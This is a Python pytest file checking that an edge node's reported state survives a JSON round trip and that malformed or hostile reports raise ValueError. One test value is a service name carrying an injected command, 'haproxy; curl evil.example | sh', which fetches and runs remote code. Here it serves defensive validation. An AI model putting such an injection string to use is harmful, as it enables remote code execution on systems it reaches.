"""What an edge tells of itself comes over the wire as it was."""

from __future__ import annotations

import json

import pytest

import some_edges
from greygate.plan import edge_state


def test_what_is_told_is_read() -> None:
    state = some_edges.state(down=("haproxy",), closed=(443,))
    assert edge_state.read(json.loads(json.dumps(edge_state.told(state)))) == state


@pytest.mark.parametrize(
    "change",
    [
        *({"serial": None}, {"services": 1}, {"services": [{}]}, {"versions": []}, {"at": "x"}),
        # What a stolen edge may send: numbers that nobody can use, too many of a kind, and words
        # that would come into a command.
        *({"serial": it} for it in (1 << 53, -1, "7", 7.5, True, 10**400)),
        *({"free": it} for it in (10**400, -5, 1e300)),
        *({"links": it} for it in (1 << 60, "2", None)),
        *({"at": it} for it in (1e308, -1.0, float("nan"), "1", True, 10**400)),
        {"booted": float("inf")},
        {"ports": [{"port": 65536, "listens": True}]},
        {"ports": [{"port": 443, "listens": True}] * 17},
        {"services": [{"name": "haproxy; curl evil.example | sh", "since": None}]},
        {"services": [{"name": "haproxy", "since": 1e300}]},
        {"services": [{"name": ["haproxy"], "since": 1.0}]},
        {"versions": {str(number): "1" for number in range(17)}},
    ],
    ids=str,
)
def test_what_is_no_state_is_told_as_such(change: dict[str, object]) -> None:
    told = {**edge_state.told(some_edges.state()), **change}
    with pytest.raises(ValueError, match=r"\w"):
        edge_state.read(told)
    with pytest.raises(ValueError, match="no state"):
        edge_state.read({})
